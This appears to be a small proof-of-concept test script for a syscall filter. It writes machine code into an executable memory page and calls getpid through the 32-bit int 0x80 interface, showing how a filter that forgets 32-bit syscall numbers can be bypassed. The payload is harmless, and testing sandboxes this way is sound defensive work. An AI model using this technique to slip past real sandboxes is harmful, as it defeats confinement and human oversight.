"""32-bit system calls from 64-bit code: their numbers differ, so a filter that forgets them can be walked around."""

import ctypes
import mmap

from attack import wait_for_go

wait_for_go()
# mov eax, 20 (getpid); int 0x80; ret
code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
memory = mmap.mmap(-1, 4096, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
print(function())
